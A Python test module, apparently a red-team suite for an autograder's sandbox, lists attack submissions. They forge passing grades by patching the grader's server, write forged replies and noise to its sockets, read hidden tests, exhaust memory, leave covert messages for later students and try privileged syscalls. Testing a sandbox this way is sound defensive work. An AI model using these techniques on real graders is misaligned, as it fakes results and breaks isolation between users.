"""The grader's own machinery, for one who has read its source: the boundary, the jail, the warm process."""

from __future__ import annotations

from ..submission import Gain, Submission

# The student's end of the boundary, and every socket of the process.
FIND = """
import gc
import os
import socket
import stat

def servers():
    things = gc.get_objects()
    return [thing for thing in things if type(thing).__name__ == "Server" and hasattr(thing, "talk")]

def sockets():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                found.append(int(name))
        except OSError:
            pass
    return found
"""

ATTACKS = [
    Submission(
        "forged-references",
        "The checker is answered with references to the test's own objects, to modules and to types.",
        Gain.MARKS,
        FIND
        + """
from klasteryste.grading.boundary.codec import Message

operators = ["__eq__", "__lt__", "__sub__", "__bool__"]
forged = [["Y", 0], ["Y", 1], ["M", "numpy", 0], ["T", "builtins.int"], ["LC", "Purse"], ["@", 0],
          ["R", 7, "o", ["R", 8, "c", "numpy", "integer", [], operators, None]]]
turn = 0

def handle(message):
    global turn
    turn += 1
    what = message.node[0]
    if what == "get":
        return Message(["ok", forged[turn % len(forged)]], [])
    if what in ("call", "attr", "op"):
        return Message(["ok", [], forged[turn % len(forged)], "", []], [])
    return Message(["ok", True], [])

for server in servers():
    server.handle = handle
    server.talk.handle = handle
""",
    ),
    Submission(
        "answers-for-every-name",
        "The checker is told that the student has bound every name, each to a function that agrees.",
        Gain.MARKS,
        FIND
        + """
from klasteryste.grading.boundary.codec import Message

def agree(*inputs, **options):
    return True

forged = ["np", "pd", "math", "isclose", "assert_allclose", "max", "all", "isinstance", "len", "right", "io",
          "expected", "readings", "table", "values", "points", "map", "sum", "list", "AssertionError", "said"]
for server in servers():
    def handle(message, handle=server.talk.handle):
        what, *rest = message.node
        if what == "has":
            return Message(["ok", True], [])
        if what == "names":
            return Message(["ok", ["l", *forged]], [])
        return handle(message)

    server.talk.handle = server.handle = handle
    server.namespace().update(dict.fromkeys(forged, agree))
""",
        answers={"largest": "largest = True", "scores": "scores = True"},
    ),
    Submission(
        "noise-on-every-socket",
        "Noise, huge sizes and frames without an end are written to every socket there is.",
        Gain.STOPPED,
        FIND
        + """
import random
import struct

for number in sockets():
    os.set_blocking(number, False)
    for noise in (b"KLS1" + struct.pack("!II", 2**31, 2**31), b"\\xff" * 4096, struct.pack("!I", 2**32 - 1),
                  random.randbytes(10**6), b"[" * 10**6):
        try:
            os.write(number, noise)
        except OSError as error:
            print(error)
    try:
        os.set_blocking(number, True)
    except OSError:
        pass
""",
    ),
    Submission(
        "forged-replies-to-grader",
        "Replies, results and outputs of tests are written to the sockets in the grader's own format.",
        Gain.MARKS,
        FIND
        + """
import json

replies = [{"type": "execute_reply", "content": {"status": "ok"}}] * 30
replies += [{"outputs": [{"output_type": "execute_result", "data": {"text/plain": "1"}, "metadata": {},
                          "execution_count": 1}]}] * 30
replies += [{"outputs": []}] * 30 + [{"ended": ["killed", 0]}, {"started": True}]
for number in sockets():
    os.set_blocking(number, False)
    for reply in replies:
        data = json.dumps(reply).encode()
        try:
            os.write(number, len(data).to_bytes(4, "big") + data)
        except OSError as error:
            print(error)
            break
    os.set_blocking(number, True)
""",
    ),
    Submission(
        "closes-everything",
        "Every file and socket of the process is closed.",
        Gain.MARKS,
        "import os\n\nos.closerange(0, 5000)",
    ),
    Submission(
        "sockets-to-a-child",
        "A child process takes the sockets over and goes on in the place of its parent, which ends.",
        Gain.MARKS,
        """
import os
import time

if os.fork():
    time.sleep(0.2)
    os._exit(0)
""",
    ),
    Submission(
        "reads-a-callback",
        "The function looks into what a test gives it: a function, a generator, frames and variables.",
        Gain.HIDDEN,
        answers={
            "each": """
def each(function, values):
    for thing in (function, values):
        for name in ("__globals__", "__code__", "__closure__", "gi_frame", "gi_code", "__self__", "__dict__",
                     "__builtins__", "__getattribute__", "_server", "_number", "__class__", "f_globals"):
            try:
                found = getattr(thing, name)
                print(name, found)
                print(found.f_globals["In"])
            except Exception as error:
                print(error)
    try:
        print(function.__globals__["In"])
    except Exception as error:
        print(error)
    return []
"""
        },
    ),
    Submission(
        "asks-the-test",
        "The checker is asked for objects of the test by their numbers: attributes, calls, values.",
        Gain.HIDDEN,
        FIND
        + """
import inspect
import itertools
""",
        answers={
            "each": """
def each(function, values):
    for server in servers():
        for number in range(20):
            for what, rest in (("attr", ("__globals__",)), ("attr", ("gi_frame",)), ("attr", ("f_back",)),
                               ("attr", ("__self__",)), ("attr", ("namespace",)), ("next", ()),
                               ("set", ("__code__", 1)), ("call", ([], [], []))):
                try:
                    print(number, what, rest, server.ask_back(what, number, *rest))
                except Exception as error:
                    print(type(error), error)
    return []
"""
        },
    ),
    Submission(
        "endless-callbacks",
        "The function calls the test's function without end, and itself through it.",
        Gain.STOPPED,
        answers={
            "each": """
def each(function, values):
    values = list(values)
    if function is str.upper:
        return ["A", "B"]
    while True:
        function(2)
        each(function, values[:1])
"""
        },
    ),
    Submission(
        "huge-arrays-of-nothing",
        "Arrays are returned that take no memory and would fill any: repeated views, huge texts.",
        Gain.STOPPED,
        answers={
            "mean": """
def mean(values):
    return np.broadcast_to(np.float64(3), (10**6, 10**6))
""",
            "largest": "largest = np.lib.stride_tricks.as_strided(np.zeros(1), (10**9,), (0,))",
            "scores": """
scores = pd.DataFrame({"town": pd.Categorical.from_codes(np.zeros(10**6, int), ["x" * 10**6])})
scores.attrs["self"] = scores
""",
            "words": """
def words(text):
    return np.array([object(), print, text], dtype=object)
""",
        },
    ),
    Submission(
        "leaves-word-for-next",
        "A message is left for whoever is graded later by the same process: files, sockets, memory, modules.",
        Gain.PEERS,
        """
import os
import pathlib
import socket
import sys

word = "peer-" + "beef-9b2d"
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/run", "/mnt", sys.prefix, "/"):
    try:
        pathlib.Path(folder, "word-for-next").write_text(word)
    except OSError as error:
        print(error)
sys.modules["word_for_next"] = word
os.environ["WORD_FOR_NEXT"] = word
if os.fork() == 0:
    os.setsid()
    with socket.socket(socket.AF_UNIX) as line:
        line.bind("\\0word-for-next")
        line.listen()
        line.settimeout(20)
        while True:
            line.accept()[0].sendall(word.encode())
try:
    from multiprocessing import shared_memory

    memory = shared_memory.SharedMemory("word-for-next", True, 64)
    memory.buf[:14] = word.encode()
except OSError as error:
    print(error)
""",
    ),
    Submission(
        "looks-for-word",
        "A message is looked for that an earlier student may have left.",
        Gain.PEERS,
        """
import os
import pathlib
import socket
import sys

for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/run", "/mnt", sys.prefix, "/"):
    try:
        print(pathlib.Path(folder, "word-for-next").read_text())
    except OSError as error:
        print(error)
print(sys.modules.get("word_for_next"), os.environ.get("WORD_FOR_NEXT"))
with socket.socket(socket.AF_UNIX) as line:
    try:
        line.connect("\\0word-for-next")
        print(line.recv(64))
    except OSError as error:
        print(error)
try:
    from multiprocessing import shared_memory

    print(bytes(shared_memory.SharedMemory("word-for-next").buf))
except OSError as error:
    print(error)
""",
    ),
    Submission(
        "unusual-system-calls",
        "System calls are tried that reach into other processes or load programs into the kernel.",
        Gain.STOPPED,
        """
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
done = []
calls = {
    "ptrace": (101, 16, os.getppid(), 0, 0), "process_vm_readv": (310, 1, 0, 0, 0, 0, 0),
    "mount": (165, b"x", b"/tmp", b"tmpfs", 0, 0), "unshare": (272, 0x10000000), "setns": (308, 0, 0),
    "bpf": (321, 0, 0, 0), "perf_event_open": (298, 0, 0, 0, 0, 0), "keyctl": (250, 0, -3, 0),
    "add_key": (248, b"user", b"word", b"x", 1, -3), "userfaultfd": (323, 1), "setuid": (105, 0),
    "init_module": (175, 0, 0, 0), "chroot": (161, b"/tmp"), "sethostname": (170, b"x", 1),
}
for name, words in calls.items() if platform.machine() == "x86_64" else ():
    result = libc.syscall(*words)
    print(name, result, os.strerror(ctypes.get_errno()))
    if result >= 0:
        done.append(name)
if done:
    print("TOOK", "@NAME@")
""",
    ),
]
